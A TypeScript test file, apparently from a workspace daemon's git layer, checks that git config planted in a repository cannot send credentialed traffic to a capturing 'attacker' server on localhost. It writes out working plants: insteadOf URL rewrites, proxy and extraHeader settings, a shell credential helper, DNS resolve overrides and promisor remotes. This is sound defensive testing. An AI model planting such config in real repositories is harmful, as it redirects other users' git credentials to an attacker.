/**
 * Content cannot send the daemon's git traffic, or the credentials of a request, anywhere but to the remote the
 * request names (invariant 8; red team finding 3: a prebuild's `.git/config` with `url.<attacker>.insteadOf`
 * got the next user's token). Real git, a real credentialed smart-HTTP remote and a capturing "attacker" server,
 * both on 127.0.0.1:0, with the production policy (no local remotes). Control runs prove every plant is live:
 * plain git on the same working copy does reach the attacker.
 */
import { execFile } from 'node:child_process';
import { appendFile, chown, mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { GitHttpServer } from '../test-support/git-server.js';
import { createRepo, scratch, startGitHttpServer } from '../test-support/git-server.js';
import { UnsafeRepositoryError, neutralise, parseConfigList } from './config-guard.js';
import { Git, credentialOrigins, gitSubcommand } from './git.js';
import { defaultGitPolicy } from './git-policy.js';
import { gitStatus } from './git-status.js';

const isRoot = process.getuid?.() === 0;
const user = { uid: 200_778, gid: 200_778 };
const credentials = { username: 'alice', password: 'alice-s3cret-token' };
const basic = `Basic ${Buffer.from(`${credentials.username}:${credentials.password}`).toString('base64')}`;

interface Capture {
  readonly url: string;
  /** `METHOD url authorization` per request received. */
  readonly requests: string[];
  close(): Promise<void>;
}

/**
 * The attacker: records every request (as a host or as a proxy) and asks for credentials (401) when it got none,
 * as a forge would, so that git would hand over whatever it has.
 */
async function startCapture(redirectTo?: () => string): Promise<Capture> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? '-'}`);
    if (redirectTo) {
      res.writeHead(302, { location: `${redirectTo()}${req.url ?? '/'}` }).end();
      return;
    }
    if (!req.headers.authorization) {
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
      return;
    }
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

describe('git traffic planted in content (real git, real servers)', () => {
  let root: Awaited<ReturnType<typeof scratch>>;
  let real: GitHttpServer;
  let attacker: Capture;
  let redirector: Capture;
  let git: Git;
  let n = 0;

  beforeAll(async () => {
    root = await scratch('workbay-git-traffic-');
    await createRepo(root.path, 'repo', { 'notes.txt': 'notes\n' });
    real = await startGitHttpServer(root.path, credentials);
    attacker = await startCapture();
    redirector = await startCapture(() => attacker.url);
    git = new Git(join(root.path, 'tmp'), {
      allowLocalRemotes: false,
      localCommandTimeoutMs: 10_000,
      // The servers listen on 127.0.0.1, which network git refuses by default.
      addresses: { allowedNetworks: ['127.0.0.1/32'] },
    });
  });
  afterAll(async () => {
    await real?.close();
    await attacker?.close();
    await redirector?.close();
    await root?.cleanup();
  });
  beforeEach(() => {
    attacker.requests.length = 0;
    redirector.requests.length = 0;
    real.seenAuthorization.length = 0;
  });

  const realUrl = (): string => `${real.url}/repo.git`;

  /** A working copy cloned (with the credentials) from the real remote, owned by the workspace's user. */
  const workingCopy = async (): Promise<string> => {
    const dir = join(root.path, `wc${++n}`);
    await mkdir(dir);
    if (isRoot) await chown(dir, user.uid, user.gid);
    await git.run(['clone', '--quiet', '--', realUrl(), '.'], {
      cwd: dir,
      newRepository: true,
      contentRoot: dir,
      credentials,
    });
    return dir;
  };
  const plant = async (dir: string, config: string): Promise<void> => {
    await appendFile(join(dir, '.git', 'config'), config);
  };
  const options = (dir: string) => ({ cwd: dir, contentRoot: dir, credentials });

  /**
   * Plain git (no neutralisation) on the planted working copy: what the plant does when nothing stops it.
   * Asynchronous: the servers live in this process.
   */
  const control = (dir: string, ...args: string[]): Promise<void> =>
    new Promise((resolve) => {
      execFile(
        'git',
        ['-c', 'safe.directory=*', ...args],
        {
          cwd: dir,
          env: {
            PATH: process.env['PATH'] ?? '/usr/bin:/bin',
            HOME: dir,
            GIT_CONFIG_NOSYSTEM: '1',
            GIT_CONFIG_GLOBAL: '/dev/null',
            GIT_TERMINAL_PROMPT: '0',
            GIT_ASKPASS: '',
          },
          timeout: 30_000,
        },
        // The exit code does not matter: where the traffic went does.
        () => resolve(),
      );
    });

  /** The credentialed calls of the initializer (realizeCloneTarget): ls-remote and fetch of the request's URL. */
  const credentialedCalls = async (dir: string): Promise<void> => {
    const heads = await git.run(['ls-remote', '--exit-code', '--heads', realUrl(), 'refs/heads/feature'], options(dir));
    expect(heads).toContain('refs/heads/feature');
    await git.run(
      ['fetch', '--quiet', '--depth=1', realUrl(), '+refs/heads/feature:refs/remotes/origin/feature'],
      options(dir),
    );
    // By name too: remote.<name>.* applies (origin is the real remote, as the initializer sets it).
    await git.run(['fetch', '--quiet', 'origin'], options(dir));
  };

  it('control: the planted keys are live for plain git', async () => {
    const dir = await workingCopy();
    await plant(
      dir,
      `[url "${attacker.url}/"]\n\tinsteadOf = ${real.url}/\n[http]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n`,
    );
    await control(dir, 'ls-remote', realUrl());
    expect(attacker.requests.length).toBeGreaterThan(0);
    const proxied = await workingCopy();
    await plant(proxied, `[http "${real.url}/"]\n\tproxy = ${attacker.url}\n`);
    attacker.requests.length = 0;
    await control(proxied, 'ls-remote', realUrl());
    expect(attacker.requests.some((r) => r.includes(`${real.url}/repo.git/info/refs`))).toBe(true);
    const headers = await workingCopy();
    await plant(headers, `[http]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n`);
    real.seenAuthorization.length = 0;
    await control(headers, 'ls-remote', realUrl());
    expect(real.seenAuthorization).toContain('Basic ZXZpbDpldmls');
  });

  it.each([
    ['url.<attacker>.insteadOf = <real>', (a: string, r: string) => `[url "${a}/"]\n\tinsteadOf = ${r}/\n`],
    [
      'url.<attacker>.insteadOf = <real URL, whole>',
      (a: string, r: string) => `[url "${a}/x"]\n\tinsteadOf = ${r}/repo.git\n`,
    ],
    ['url.<attacker>.insteadOf = http://', (a: string) => `[url "${a}/"]\n\tinsteadOf = http://\n`],
    ['url.<attacker>.pushInsteadOf', (a: string, r: string) => `[url "${a}/"]\n\tpushInsteadOf = ${r}/\n`],
  ])(
    '%s: a credentialed ls-remote/fetch is refused (FAILED_PRECONDITION naming the key), the attacker gets nothing',
    async (_name, config) => {
      const dir = await workingCopy();
      await plant(dir, config(attacker.url, real.url));
      for (const args of [
        ['ls-remote', '--heads', realUrl()],
        ['fetch', '--quiet', realUrl(), '+refs/heads/main:refs/remotes/origin/main'],
        ['remote', 'get-url', 'origin'],
      ]) {
        const error = await git.run(args, options(dir)).then(
          () => new Error('expected a refusal'),
          (e: unknown) => e as Error,
        );
        expect(error).toBeInstanceOf(UnsafeRepositoryError);
        expect(error.message).toMatch(/insteadof/i);
        expect(error.message).toMatch(/rewrites remote URLs/);
      }
      // Without credentials too: a transport command is never redirected.
      await expect(git.run(['ls-remote', realUrl()], { cwd: dir, contentRoot: dir })).rejects.toThrow(
        UnsafeRepositoryError,
      );
      expect(attacker.requests).toEqual([]);
      // Local commands on the same content keep working (status at disposal).
      expect((await gitStatus(git, dir, dir))?.branch).toBe('main');
    },
  );

  it('url.<attacker>.insteadOf in an included file inside the content: refused the same way', async () => {
    const dir = await workingCopy();
    await writeFile(join(dir, 'evil.inc'), `[url "${attacker.url}/"]\n\tinsteadOf = ${real.url}/\n`);
    await plant(dir, '[include]\n\tpath = ../evil.inc\n');
    await expect(git.run(['ls-remote', realUrl()], options(dir))).rejects.toThrow(/insteadof/i);
    expect(attacker.requests).toEqual([]);
  });

  it.each([
    ['http.proxy', (a: string) => `[http]\n\tproxy = ${a}\n`],
    ['http.<url>.proxy', (a: string, r: string) => `[http "${r}/"]\n\tproxy = ${a}\n`],
    [
      'http.<url>.proxy (two spellings)',
      (a: string, r: string) => `[http "${r}"]\n\tproxy = ${a}\n[http "${r}/repo.git"]\n\tproxy = ${a}\n`,
    ],
    ['remote.origin.proxy', (a: string) => `[remote "origin"]\n\tproxy = ${a}\n`],
    [
      'http.extraHeader',
      () => `[http]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n\textraHeader = X-Evil: 1\n`,
    ],
    [
      'http.<url>.extraHeader',
      (_a: string, r: string) => `[http "${r}/"]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n`,
    ],
    // Not observable without TLS or a second host; here they must do no harm (their overrides: the pure tests).
    ['http.cookieFile + followRedirects', () => `[http]\n\tcookieFile = /etc/passwd\n\tfollowRedirects = true\n`],
    [
      'http.sslVerify=false and CA/cert keys',
      (_a: string, r: string) =>
        `[http]\n\tsslVerify = false\n\tsslCAInfo = /etc/passwd\n[http "${r}/"]\n\tsslVerify = false\n\tsslCert = /etc/passwd\n\tsslKey = /etc/passwd\n`,
    ],
    [
      'credential.helper / useHttpPath',
      (_a: string, r: string) =>
        `[credential]\n\thelper = !echo password=evil\n\tuseHttpPath = true\n[credential "${r}"]\n\thelper = !echo password=evil\n`,
    ],
  ])('%s: the credentialed ls-remote and fetch go to the real remote only', async (_name, config) => {
    const dir = await workingCopy();
    await plant(dir, config(attacker.url, real.url));
    await credentialedCalls(dir);
    expect(attacker.requests).toEqual([]);
    // The real remote saw the request's credentials and nothing the content planted.
    expect(real.seenAuthorization.length).toBeGreaterThan(0);
    expect(new Set(real.seenAuthorization)).toEqual(new Set([basic]));
  });

  it('http.curloptResolve (name resolution): the credentialed calls still reach the real remote', async () => {
    // The attacker listens on another loopback address, on the real remote's port: a resolve entry for
    // localhost:<port> would send the real remote's traffic there.
    const port = new URL(real.url).port;
    const requests: string[] = [];
    const evil = createServer((req, res) => {
      requests.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? '-'}`);
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
    });
    await new Promise<void>((resolve) => evil.listen(Number(port), '127.0.0.2', () => resolve()));
    try {
      const dir = await workingCopy();
      const viaName = `http://localhost:${port}/repo.git`;
      await plant(dir, `[http]\n\tcurloptResolve = localhost:${port}:127.0.0.2\n`);
      await control(dir, 'ls-remote', viaName);
      expect(requests.length).toBeGreaterThan(0);
      requests.length = 0;
      real.seenAuthorization.length = 0;
      await git.run(['ls-remote', '--heads', viaName], options(dir));
      expect(requests).toEqual([]);
      expect(new Set(real.seenAuthorization)).toEqual(new Set([basic]));
    } finally {
      evil.closeAllConnections();
      await new Promise<void>((resolve) => evil.close(() => resolve()));
    }
  });

  it('credentials go only to the host of the URL given: a redirect to another host gets none', async () => {
    const dir = await workingCopy();
    const error = await git.run(['ls-remote', `${redirector.url}/repo.git`], options(dir)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(Error);
    expect(String((error as Error & { stderr?: string }).stderr)).toMatch(/credentials are given only to/);
    // git followed the redirect and the attacker asked for credentials: it never got any.
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.requests.every((r) => r.endsWith(' -'))).toBe(true);
    expect(redirector.requests.every((r) => r.endsWith(' -'))).toBe(true);
  });

  it('a command that names no URL gives credentials only to the working copy origin', async () => {
    const dir = await workingCopy();
    // A content-chosen remote other than origin: fetching it by name gets no credentials.
    await plant(dir, `[remote "evil"]\n\turl = ${attacker.url}/repo.git\n`);
    await expect(git.run(['fetch', 'evil'], options(dir))).rejects.toThrow();
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.requests.every((r) => r.endsWith(' -'))).toBe(true);
    // origin (the real remote) works.
    await git.run(['fetch', '--quiet', 'origin'], options(dir));
    expect(real.seenAuthorization).toContain(basic);
  });

  it('a legitimate working copy: credentialed ls-remote, fetch and status work as before', async () => {
    const dir = await workingCopy();
    await credentialedCalls(dir);
    expect(new Set(real.seenAuthorization)).toEqual(new Set([basic]));
    expect((await gitStatus(git, dir, dir))?.branch).toBe('main');
  });
});

describe('traffic keys (pure)', () => {
  const entries = parseConfigList(
    [
      'local\0http.proxy\nhttp://evil',
      'local\0http.https://Host/x.proxy\nhttp://evil',
      'local\0http.sslverify\nfalse',
      'local\0http.https://h/.sslverify\nfalse',
      'local\0http.sslcainfo\n/x',
      'local\0http.extraheader\nA: b',
      'local\0http.https://h/.extraheader\nA: b',
      'local\0http.cookiefile\n/x',
      'local\0http.curloptresolve\nh:1:2',
      'local\0http.postbuffer\n1000',
      'local\0remote.Origin.proxy\nhttp://evil',
      'local\0credential.usehttppath\ntrue',
      'local\0url.http://evil/.insteadof\nhttps://h/',
      '',
    ].join('\0'),
    true,
  );

  it('overrides each under the key the repository used; leaves tuning alone', () => {
    const overrides = new Map(neutralise(entries, defaultGitPolicy, '/w', { remote: false }));
    expect(overrides.get('http.proxy')).toBe('');
    expect(overrides.get('http.https://Host/x.proxy')).toBe('');
    expect(overrides.get('http.sslverify')).toBe('true');
    expect(overrides.get('http.https://h/.sslverify')).toBe('true');
    expect(overrides.get('http.sslcainfo')).toBe('');
    expect(overrides.get('http.extraheader')).toBe('');
    expect(overrides.get('http.https://h/.extraheader')).toBe('');
    expect(overrides.get('http.cookiefile')).toBe('');
    expect(overrides.get('http.curloptresolve')).toBe('');
    expect(overrides.get('remote.Origin.proxy')).toBe('');
    expect(overrides.get('credential.usehttppath')).toBe('false');
    expect(overrides.has('http.postbuffer')).toBe(false);
    // A local command does not use URL rewrites: nothing to refuse.
    expect([...overrides.keys()].some((k) => k.startsWith('url.'))).toBe(false);
  });

  it('refuses URL rewrites for anything that may talk to a remote (the default)', () => {
    expect(() => neutralise(entries, defaultGitPolicy, '/w')).toThrow(/insteadof.*rewrites remote URLs/);
    expect(() =>
      neutralise([{ scope: 'local', key: 'url.x.pushinsteadof', value: 'y' }], defaultGitPolicy, '/w', {
        remote: true,
      }),
    ).toThrow(UnsafeRepositoryError);
  });

  it('refuses, for anything that may talk to a remote, a partial clone or a second origin URL from content', () => {
    // Red-team round 2: a prebuild made a credentialed checkout fetch a missing blob from its own promisor remote.
    const local = (key: string, value: string) => ({ scope: 'local' as const, key, value });
    for (const planted of [
      [local('extensions.partialclone', 'evil')],
      [local('remote.evil.promisor', 'true')],
      [local('remote.origin.url', 'https://real/r.git'), local('remote.origin.url', 'https://attacker/r.git')],
    ]) {
      expect(() => neutralise(planted, defaultGitPolicy, '/w'), planted[planted.length - 1]!.key).toThrow(
        UnsafeRepositoryError,
      );
      expect(() => neutralise(planted, defaultGitPolicy, '/w', { remote: false })).not.toThrow();
    }
    // The same URL twice sends credentials nowhere else.
    expect(() =>
      neutralise(
        [local('remote.origin.url', 'https://h/r'), local('remote.origin.url', 'https://h/r')],
        defaultGitPolicy,
        '/w',
      ),
    ).not.toThrow();
  });

  it('gitSubcommand and credentialOrigins read the command line as git does', () => {
    expect(gitSubcommand(['-c', 'core.hooksPath=/dev/null', 'checkout', '-q'])).toBe('checkout');
    expect(gitSubcommand(['--git-dir=/x', '-C', 'dir', 'ls-remote', 'u'])).toBe('ls-remote');
    expect(credentialOrigins(['fetch', '--quiet', 'https://User:pw@Git.Example.com:8443/a/b.git', '+x:y'])).toEqual([
      'https://git.example.com:8443',
    ]);
    expect(credentialOrigins(['ls-remote', 'http://127.0.0.1:1/r?x#y'])).toEqual(['http://127.0.0.1:1']);
    expect(credentialOrigins(['submodule', 'update'], 'https://h/r.git')).toEqual(['https://h']);
    expect(credentialOrigins(['fetch', 'ssh://git@h/r'])).toEqual([]);
    expect(credentialOrigins(['checkout', 'main'])).toEqual([]);
  });
});
